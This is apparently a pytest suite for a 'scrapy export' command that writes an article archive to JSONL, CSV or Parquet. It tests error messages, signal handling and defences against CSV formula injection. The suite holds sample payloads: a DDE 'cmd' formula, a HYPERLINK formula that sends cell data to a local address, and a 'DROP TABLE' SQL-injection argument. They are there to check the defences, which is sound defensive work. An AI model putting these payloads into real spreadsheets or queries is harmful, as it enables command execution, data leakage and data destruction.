"""`scrapy export`, as it is typed: what it says, leaves, and what a spreadsheet makes of it."""

import csv
import gzip
import json
import os
import re
import shutil
import signal
import subprocess
import time

import pandas
import pytest

from archive.rows import ArticleRow
from archive.store import Archive
from tests.crawling import PROJECT, Crawl
from tests.many_articles import SITE, archive_of
from tests.saving import save_article

SEEN = "2024-05-01T01:00:00+00:00"


@pytest.fixture
def command(tmp_path):
    """Give the command over an archive of 30 articles."""
    archive_of(tmp_path / "a.db", 30).close()
    return Crawl(tmp_path, SITE)


def test_each_format(command):
    """The last line says rows, bytes and file; the dictionary stands beside it."""
    for suffix in ("jsonl", "csv", "parquet"):
        target = command.folder / f"out.{suffix}"
        ended = command.scrapy("export", str(target), "--where", "place = 'Kupang'")
        assert ended.returncode == 0, ended.stderr
        size = target.stat().st_size
        assert ended.stdout.splitlines()[-1] == f"20 rows, {size:,} bytes: {target}"
        assert (command.folder / f"out.{suffix}.columns.csv").exists()
    assert len(pandas.read_parquet(command.folder / "out.parquet")) == 20


@pytest.mark.parametrize(
    ("arguments", "code", "said"),
    [
        (("out.xlsx",), 2, ".jsonl, .csv, .parquet"),
        ((), 2, "FILE"),
        (("out.csv", "--were=1"), 2, "--were"),
        (("out.csv", "--where", "plce = 1"), 2, "no such column: plce"),
        (("out.csv", "--where", "1; DROP TABLE articles"), 2, "syntax error"),
        (("nowhere/out.csv",), 1, "no folder"),
        (("there.csv",), 1, "--force"),
    ],
)
def test_what_is_refused(command, arguments, code, said):
    """By one sentence, without a traceback; the archive and the folder stay as they were."""
    (command.folder / "there.csv").write_text("mine")
    before = {path: path.read_bytes() for path in command.folder.iterdir()}
    arguments = [str(command.folder / arguments[0]), *arguments[1:]] if arguments else []
    ended = command.scrapy("export", *arguments)
    assert ended.returncode == code
    assert said in ended.stderr
    assert "Traceback" not in ended.stderr
    assert {path: path.read_bytes() for path in before} == before
    left = {path.name for path in command.folder.iterdir()} - {path.name for path in before}
    assert left <= {"a.db-wal", "a.db-shm"}
    assert command.query("SELECT count(*) FROM articles") == [(30,)]


def test_an_archive_of_an_older_version(command):
    """Is told to be brought up to date."""
    connection = command.connect()
    connection.execute("DELETE FROM _sqlite_migrations WHERE name = 'm004_reading'")
    connection.commit()
    connection.close()
    ended = command.scrapy("export", str(command.folder / "out.csv"))
    assert (ended.returncode, "doctor --fix" in ended.stderr) == (1, True)


@pytest.fixture(scope="module")
def large(tmp_path_factory):
    """Give the command over an archive whose export takes a moment."""
    folder = tmp_path_factory.mktemp("large")
    archive_of(folder / "a.db", 10_000).close()
    return Crawl(folder, SITE)


def stopped_half_way(crawl, target, number):
    """Start an export, send a signal once a part of the file is there; return how it ended."""
    pairs = [part for name, value in crawl.settings.items() for part in ("-s", f"{name}={value}")]
    process = subprocess.Popen(
        [PROJECT / ".venv/bin/python", "-m", "scrapy", "export", str(target), *pairs],
        cwd=PROJECT, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
    )  # fmt: skip
    part = target.with_name(target.name + ".part")
    deadline = time.monotonic() + 60
    while not part.exists() or part.stat().st_size < 100_000:
        assert process.poll() is None, process.communicate()
        assert time.monotonic() < deadline
        time.sleep(0.002)
    process.send_signal(number)
    out, err = process.communicate(timeout=60)
    return process.returncode, out, err


@pytest.mark.parametrize("suffix", ["csv", "jsonl", "parquet"])
def test_killed_half_way_no_file_is_there(large, tmp_path, suffix):
    """The part is left aside, never under the name; the next run replaces it and is whole."""
    target = tmp_path / f"out.{suffix}"
    code, _, _ = stopped_half_way(large, target, signal.SIGKILL)
    assert code == -signal.SIGKILL
    assert [path.name for path in tmp_path.iterdir()] == [f"out.{suffix}.part"]
    ended = large.scrapy("export", str(target))
    assert ended.returncode == 0, ended.stderr
    assert "10,000 rows" in ended.stdout
    names = sorted(path.name for path in tmp_path.iterdir())
    assert names == [f"out.{suffix}", f"out.{suffix}.columns.csv"]


@pytest.mark.parametrize("suffix", ["csv", "jsonl", "parquet"])
@pytest.mark.parametrize("number", [signal.SIGTERM, signal.SIGINT])
def test_stopped_half_way_nothing_is_left(large, tmp_path, suffix, number):
    """Neither file nor part, and what stood under the name before stays."""
    code, out, err = stopped_half_way(large, tmp_path / f"out.{suffix}", number)
    assert (code, out) == (1, "")
    assert err == "scrapy export: interrupted\n"
    assert list(tmp_path.iterdir()) == []


def test_an_endless_condition_can_be_stopped(command):
    """SQLite is asked now and then whether somebody wants to stop."""
    endless = (
        "id IN (WITH RECURSIVE n (x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM n)"
        " SELECT x FROM n WHERE x < 0)"
    )
    process = subprocess.Popen(
        [PROJECT / ".venv/bin/python", "-m", "scrapy", "export", str(command.folder / "o.csv"),
         "--where", endless, "-s", f"ARCHIVE_DB={command.database}"],
        cwd=PROJECT, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
    )  # fmt: skip
    time.sleep(4)
    assert process.poll() is None
    process.terminate()
    _, err = process.communicate(timeout=20)
    assert (process.returncode, err) == (1, "scrapy export: interrupted\n")


#: What somebody may type into WordPress, and what a spreadsheet would do with it.
PLANTED = (
    "=1+1", "=HYPERLINK(\"http://127.0.0.1:9/?\"&A1,\"baca\")", "+1+1", "-1+1", "@SUM(1,1)",
    "\t=1+1", "=cmd|' /C calc'!A0", "Warga;=1+1", "Warga;\"=1+1&\"",
)  # fmt: skip


@pytest.fixture
def planted(tmp_path):
    """Give the command over an archive with a formula in each column that text may come into."""
    with Archive.open(tmp_path / "a.db", site_url=SITE) as archive:
        for number, text in enumerate(PLANTED):
            save_article(archive,
                ArticleRow(
                    url=f"{SITE}/b-{number}", slug=f"b-{number}", body=f"{text}\n\n{text}",
                    extractor="wpberita/1", record="{}", rank=3, title=text, subtitle=text,
                    author=text, source_credit=text, signoff=text, section=text,
                    categories=((text, f"k-{number}"),), tags=((text, f"t-{number}"),),
                ),
                seen_at=SEEN,
            )  # fmt: skip
    return Crawl(tmp_path, SITE)


COLUMNS = (
    "title", "subtitle", "body", "author", "source_credit", "signoff", "section",
    "categories", "tags",
)  # fmt: skip


def formulas(source, folder):
    """Return the cells that Gnumeric calculates in a CSV file: those without a type of value."""
    book = folder / f"{source.stem}.gnumeric"
    subprocess.run(
        ["ssconvert", str(source), str(book)],
        capture_output=True, check=True, timeout=60, env={**os.environ, "LC_ALL": "C.UTF-8"},
    )  # fmt: skip
    text = gzip.decompress(book.read_bytes()).decode()
    cells = re.findall(r"<gnm:Cell ([^>]*)>([^<]*)</gnm:Cell>", text)
    assert len(cells) > 10
    return [value for attributes, value in cells if "ValueType" not in attributes]


def test_a_spreadsheet_shows_formulas_and_calculates_none(planted, tmp_path):
    """In Gnumeric, which does calculate the same cells where they are not made safe."""
    if shutil.which("ssconvert") is None:
        reason = "not installed: ssconvert (tests/install.sh installs it)"
        if os.environ.get("TESTS_MUST_RUN"):
            pytest.fail(reason)
        pytest.skip(reason)
    with (tmp_path / "control.csv").open("w", encoding="utf-8-sig", newline="") as file:
        csv.writer(file).writerows([("text", "again"), *((text, text) for text in PLANTED)])
    control = formulas(tmp_path / "control.csv", tmp_path)
    assert "=1+1" in control
    assert any(value.startswith("=hyperlink(") for value in control)
    for arguments in ((), ("--revisions",)):
        target = tmp_path / f"out{len(arguments)}.csv"
        assert planted.scrapy("export", str(target), *arguments).returncode == 0
        assert formulas(target, tmp_path) == []


@pytest.mark.parametrize("separator", [",", ";", "\t"])
def test_no_cell_begins_as_a_formula(planted, separator):
    """Whatever a spreadsheet takes for the separator; Indonesian Excel takes the semicolon."""
    target = planted.folder / "out.csv"
    assert planted.scrapy("export", str(target)).returncode == 0
    with target.open(encoding="utf-8-sig", newline="") as file:
        cells = [cell for row in csv.reader(file, delimiter=separator) for cell in row]
    assert len(cells) > len(PLANTED)
    assert [cell for cell in cells if re.match(r'["\t\r]*[=+\-@]', cell)] == []


def test_only_a_mark_was_added(planted):
    """Without the apostrophes a cell is what the archive has; JSON Lines have none."""
    for suffix in ("csv", "jsonl"):
        assert planted.scrapy("export", str(planted.folder / f"o.{suffix}")).returncode == 0
    with (planted.folder / "o.csv").open(encoding="utf-8-sig", newline="") as file:
        rows = {row["slug"]: row for row in csv.DictReader(file)}
    lines = (planted.folder / "o.jsonl").read_text(encoding="utf-8").splitlines()
    for number, line in enumerate(sorted(lines, key=lambda line: json.loads(line)["slug"])):
        record = json.loads(line)
        assert record["title"] == record["tags"][0] == PLANTED[number]
        for name in COLUMNS:
            value = record[name][0] if isinstance(record[name], list) else record[name]
            assert rows[record["slug"]][name] != value
            assert sorted(rows[record["slug"]][name].replace("'", "")) == sorted(
                value.replace("'", "")
            )
